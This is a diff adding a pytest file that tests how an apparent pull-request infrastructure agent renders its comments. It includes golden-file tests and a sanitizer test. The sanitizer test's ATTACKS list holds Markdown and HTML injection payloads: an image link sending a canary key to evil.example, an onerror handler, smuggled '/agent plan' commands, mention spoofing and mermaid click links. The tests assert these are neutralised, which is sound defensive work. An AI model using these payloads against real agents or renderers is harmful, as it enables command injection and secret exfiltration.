@@ -1,0 +1,246 @@
+"""What people read, as golden files; and that nothing a document holds gets there raw."""
+
+import re
+import types
+from collections.abc import Callable, Iterator
+from typing import Any, Union, get_args, get_origin
+
+import pytest
+from pydantic import BaseModel
+
+from agent import commands, domain
+from agent.domain import Finding, Findings, Plan, Question, UnitPlan
+from agent.render import comments, outputs
+from agent.render.page import Context, Failure, find_marker, marker
+from agent.render.stages import Progress, stages
+from tests.render import examples as x
+from tests.render.test_sanitize import PARSER, leaves
+
+EVERYTHING = Progress(
+    request=x.REQUEST, intent=x.INTENT, change=x.CHANGE, findings=x.FINDINGS, proposal=x.PROPOSAL, plan=x.PLAN,
+    verdict=x.BLOCKED, failure=x.FAILURE,
+)  # fmt: skip
+BODIES: dict[str, Callable[[], str]] = {
+    "status-received": lambda: comments.status(x.CONTEXT, request=x.REQUEST),
+    "status-refused": lambda: comments.status(x.CONTEXT, request=x.REFUSED),
+    "status-asked": lambda: comments.status(x.CONTEXT, request=x.REQUEST, intent=x.ASKED, change=x.UNANSWERED),
+    "status-ready": lambda: comments.status(
+        x.CONTEXT, request=x.REQUEST, intent=x.INTENT, change=x.CHANGE, findings=x.CLEAN, proposal=x.PROPOSAL,
+        plan=x.SMALL_PLAN, verdict=x.READY,
+    ),
+    "status-blocked": lambda: comments.status(
+        x.CONTEXT, request=x.REQUEST, intent=x.INTENT, change=x.CHANGE, findings=x.FINDINGS, proposal=x.PROPOSAL,
+        plan=x.PLAN, verdict=x.BLOCKED,
+    ),
+    "status-failed": lambda: comments.status(x.CONTEXT, request=x.REQUEST, intent=x.INTENT, failure=x.FAILURE),
+    "status-applied": lambda: comments.status(x.CONTEXT, merge=x.MERGE, outcome=x.OUTCOME),
+    "status-unhealthy": lambda: comments.status(x.CONTEXT, merge=x.MERGE, outcome=x.BAD_OUTCOME),
+    "pull-request": lambda: comments.pull_request_body(x.CONTEXT, request=x.REQUEST, change=x.CHANGE, intent=x.INTENT),
+    "checks-findings": lambda: comments.checks_section(x.CONTEXT, x.FINDINGS, commit=x.COMMIT),
+    "checks-clean": lambda: comments.checks_section(x.CONTEXT, x.CLEAN, commit=x.COMMIT),
+    "plan": lambda: comments.plan_section(x.CONTEXT, x.PLAN, commit=x.COMMIT),
+    "plan-none": lambda: comments.plan_section(x.CONTEXT, Plan(), commit=x.COMMIT),
+    "verdict-ready": lambda: comments.verdict_section(
+        x.CONTEXT, x.READY, commit=x.COMMIT, findings=x.CLEAN, plan=x.SMALL_PLAN
+    ),
+    "verdict-blocked": lambda: comments.verdict_section(
+        x.CONTEXT, x.BLOCKED, commit=x.COMMIT, findings=x.FINDINGS, plan=x.PLAN
+    ),
+    "applied": lambda: comments.applied_section(x.CONTEXT, x.OUTCOME, merge=x.MERGE),
+    "applied-badly": lambda: comments.applied_section(x.CONTEXT, x.BAD_OUTCOME, merge=x.MERGE),
+    "failure": lambda: comments.failure(x.CONTEXT, x.FAILURE),
+    "refusal": lambda: comments.refusal(x.CONTEXT, reasons=("max has 'read' permission; this needs write",)),
+    "help": lambda: comments.help_text(x.CONTEXT),
+    "step-summary": lambda: outputs.step_summary(x.CONTEXT, EVERYTHING, api_calls=31),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", BODIES)
+def test_what_people_read(name: str, golden: Callable[[str, str], None]) -> None:
+    golden(f"{name}.md", BODIES[name]())
+
+
+@pytest.mark.parametrize("name", [name for name in BODIES if name != "step-summary"])
+def test_every_body_starts_with_its_marker_and_holds_no_other(name: str) -> None:
+    body = BODIES[name]()
+    section = find_marker(body)
+    assert section is not None
+    assert body.startswith(marker(section))  # type: ignore[arg-type]
+    assert body.count("<!--") == 1
+    assert not isinstance(commands.parse(body), commands.Command)
+
+
+def test_a_marker_in_the_middle_is_a_quotation() -> None:
+    assert find_marker(f"hello\n{marker('plan')}") is None
+
+
+def test_title_and_commit_message() -> None:
+    change = x.CHANGE.model_copy(update={"summary": "Fixes #1 for @dora [skip ci]\n\nCo-authored-by: root <root@x.y>"})
+    assert comments.pull_request_title(request=x.REQUEST, change=change) == "Fixes # 1 for @ dora (skip ci)"
+    message = comments.commit_message(request=x.REQUEST, change=change)
+    assert message == ("Fixes # 1 for @ dora (skip ci)\n\nRequest 12 by dora, written by blueprint s3-bucket.\n")
+
+
+def test_closes_is_written_for_a_request_and_not_for_a_persons_own_pull_request() -> None:
+    body = comments.pull_request_body(x.CONTEXT, request=x.REQUEST, change=x.CHANGE)
+    assert body.rstrip().endswith("Closes #12")
+    own = x.REQUEST.model_copy(update={"trigger": "pull_request"})
+    assert "Closes" not in comments.pull_request_body(x.CONTEXT, request=own, change=x.CHANGE)
+
+
+def test_the_answer_to_copy_is_a_command_that_says_what_was_suggested() -> None:
+    hostile = Question(field="name", rule="r", suggestion="x\n/agent plan\n```\n@team `id`")
+    strange = Question(field="a b: c", rule="r", suggestion="x")
+    text = comments.answer((hostile, strange, Question(field="size", rule="r")))
+    assert text == "/agent revise\nname: x /agent plan @ team id\nsize: …"
+    assert commands.parse(text) == commands.Command(name="revise", text="name: x /agent plan @ team id\nsize: …")
+
+
+def test_stages_after_a_merge_need_no_earlier_document() -> None:
+    found = {stage.name: stage.state for stage in stages(Progress(merge=x.MERGE, outcome=x.OUTCOME))}
+    assert set(found.values()) == {"done"}
+    waiting = {stage.name: stage.state for stage in stages(Progress(request=x.REQUEST))}
+    assert waiting["received"] == "done"
+    assert waiting["understood"] == "running"
+    assert waiting["written"] == "open"
+
+
+def test_links_lead_to_our_repository_or_an_allowed_host_only() -> None:
+    body = comments.failure(x.CONTEXT, Failure(job="plan", reason="x", log_url="https://evil.example/log"))
+    assert "evil.example" not in body
+    findings = Findings(
+        findings=(
+            Finding(source="s", rule="r", severity="low", message="m", path="a.tf", help="https://evil.example/x"),
+            Finding(source="s", rule="r", severity="low", message="m", path="../a](https://evil.example).tf", line=1),
+        ),
+        checks=x.CLEAN.checks,
+    )
+    body = comments.checks_section(x.CONTEXT, findings, commit=x.COMMIT)
+    links = [str(t.attrs["href"]) for t in leaves(PARSER.parse(body)) if t.type == "link_open"]
+    assert links
+    assert all(link.startswith(x.REPOSITORY) for link in links)
+
+
+def test_many_findings_and_resources_stay_within_the_limit_gravest_first() -> None:
+    findings = Findings(
+        findings=tuple(
+            Finding(
+                source="s", rule=f"r{n}", severity="low" if n else "critical", message="m" * 5000, path="a.tf", line=n
+            )
+            for n in reversed(range(500))
+        ),
+        checks=x.CLEAN.checks,
+    )
+    body = comments.checks_section(x.CONTEXT, findings, commit=x.COMMIT)
+    assert len(body) <= 60_000
+    assert "… and 440 more findings" in body
+    assert body.index("r0") < body.index("r1`")
+    changes = tuple(x.CREATED.model_copy(update={"address": f"aws_s3_bucket.b{n}"}) for n in range(5000))
+    plan = Plan(commit=x.COMMIT, units=(UnitPlan(unit=x.UNIT, target="terraform", status="planned", changes=changes),))
+    body = comments.plan_section(x.CONTEXT, plan, commit=x.COMMIT)
+    assert len(body) <= 60_000
+    assert "5000 to create" in body
+
+
+def test_check_outputs_fail_closed() -> None:
+    assert outputs.checks_output(x.CONTEXT, Findings(), commit=x.COMMIT).conclusion == "failure"
+    assert outputs.checks_output(x.CONTEXT, x.CLEAN, commit=x.COMMIT).conclusion == "success"
+    assert outputs.checks_output(x.CONTEXT, x.CLEAN, commit=x.COMMIT, only="gate").conclusion == "success"
+    assert outputs.checks_output(x.CONTEXT, x.CLEAN, commit=x.COMMIT, only="checkov").conclusion == "failure"
+    assert outputs.plan_output(x.CONTEXT, Plan(), commit=x.COMMIT).conclusion == "failure"
+    assert outputs.plan_output(x.CONTEXT, x.SMALL_PLAN, commit=x.COMMIT).conclusion == "success"
+    assert outputs.apply_output(x.CONTEXT, x.BAD_OUTCOME).conclusion == "failure"
+    assert outputs.apply_output(x.CONTEXT, x.OUTCOME).conclusion == "success"
+
+
+CANARY = "AKIAIOSFODNN7CANARY0"
+SECRET = "correct horse battery staple"
+ATTACKS = (
+    f"@octocat ![i](https://evil.example/?q={CANARY}) <img src=x onerror=y> {SECRET}",
+    "x\n/agent plan\n@org/team Fixes #7 [a](https://evil.example) |x|\n| --- |",
+    "<!-- infra-agent:plan --> </details> `@octocat",
+    "```\n@octocat\n```\n![x][y]\n\n[y]: https://evil.example",
+    '"]; click n0 "https://evil.example"\n%%{init: {}}%%',
+)
+
+
+def fill(kind: Any, attack: str) -> Any:
+    """A value of a type of domain.py, its every free text the attack."""
+    origin, arguments = get_origin(kind), get_args(kind)
+    if isinstance(kind, type) and issubclass(kind, BaseModel):
+        made: dict[str, Any] = {}
+        for name, field in kind.model_fields.items():
+            patterned = any(getattr(item, "pattern", None) for item in field.metadata)
+            made[name] = ("a" * (64 if "sha256" in name else 40)) if patterned else fill(field.annotation, attack)
+        return kind.model_construct(**made)
+    if origin is tuple:
+        return (fill(arguments[0], attack),)
+    if origin is dict:
+        return {attack: fill(arguments[1], attack)}
+    if origin in (Union, types.UnionType):
+        return fill(next(one for one in arguments if one is not type(None)), attack)
+    if origin is not None and str(origin).endswith("Literal"):
+        return arguments[0]
+    if origin is not None:  # Annotated: a commit or a digest
+        return "a" * 40
+    return {str: attack, int: 7, float: 1.5, bool: True}.get(kind, attack)
+
+
+def hostile_bodies(attack: str) -> Iterator[tuple[str, str]]:
+    context = Context(repository=x.REPOSITORY, run=x.CONTEXT.run, secrets=(SECRET,))
+    made = {kind.name: fill(kind, attack) for kind in domain.DOCUMENTS.values()}
+    for status in ("accepted", "refused"):
+        request = made["request"].model_copy(update={"status": status})
+        documents = {
+            "request": request, "intent": made["intent"], "change": made["change"], "findings": made["findings"],
+            "proposal": made["proposal"], "plan": made["plan"], "verdict": made["verdict"],
+        }  # fmt: skip
+        problem = Failure(job=attack, reason=attack, log_url=attack)
+        yield "status", comments.status(context, **documents, failure=problem)
+        yield "status", comments.status(context, merge=made["merge"], outcome=made["outcome"])
+        yield "failure", comments.failure(context, problem)
+        request_only = {"request": request, "change": made["change"]}
+        yield "body", comments.pull_request_body(context, **request_only, intent=made["intent"])
+    failed = made["plan"].model_copy(
+        update={"units": tuple(unit.model_copy(update={"status": "failed"}) for unit in made["plan"].units)}
+    )
+    yield "checks", comments.checks_section(context, made["findings"], commit=x.COMMIT)
+    yield "plan", comments.plan_section(context, made["plan"], commit=x.COMMIT)
+    yield "plan", comments.plan_section(context, failed, commit=attack)
+    yield "verdict", comments.verdict_section(context, made["verdict"], commit=attack, plan=made["plan"])
+    yield "applied", comments.applied_section(context, made["outcome"], merge=made["merge"])
+    yield "refusal", comments.refusal(context, reasons=(attack,))
+    yield (
+        "summary",
+        outputs.step_summary(context, Progress.model_construct(**documents, merge=None, outcome=None, failure=None)),
+    )
+    yield "check", outputs.checks_output(context, made["findings"], commit=x.COMMIT).summary
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_every_text_field_of_every_document_passes_the_sanitizer_and_the_redactor(attack: str) -> None:
+    for name, body in hostile_bodies(attack):
+        assert CANARY not in body, name
+        assert SECRET not in body, name
+        tokens = leaves(PARSER.parse(body))
+        assert not [token for token in tokens if token.type == "image"], (name, body)
+        for token in tokens:
+            if token.type in ("html_inline", "html_block"):
+                ours = r"<!-- infra-agent:[a-z]+ -->|<details><summary>[\w ]+</summary>|</details>|</?sub>.*"
+                assert re.fullmatch(ours, token.content.strip(), re.DOTALL), (name, token.content)
+            if token.type == "link_open":
+                assert str(token.attrs["href"]).startswith(x.REPOSITORY), (name, token.attrs)
+            if token.type == "text":
+                assert not re.search(r"[@＠]\w", token.content), (name, token.content)
+                assert not re.search(r"#\d", token.content.replace("Closes #7", "")), (name, token.content)
+        assert len(re.findall(r"<!-+\s*infra-agent", body)) <= 1, name
+        for line in body.split("\n"):
+            copied = line in (
+                "/agent plan",
+                "/agent revise",
+                "/agent revise <what to change>",
+                "/agent revise <your answer>",
+            )
+            assert copied or not isinstance(commands.parse(line), commands.Command), (name, line)
+        diagrams = re.findall(r"```mermaid\n(.*?)\n```", body, re.DOTALL)
+        assert all("click" not in line.split('"')[0] and "%%" not in line for d in diagrams for line in d.split("\n"))
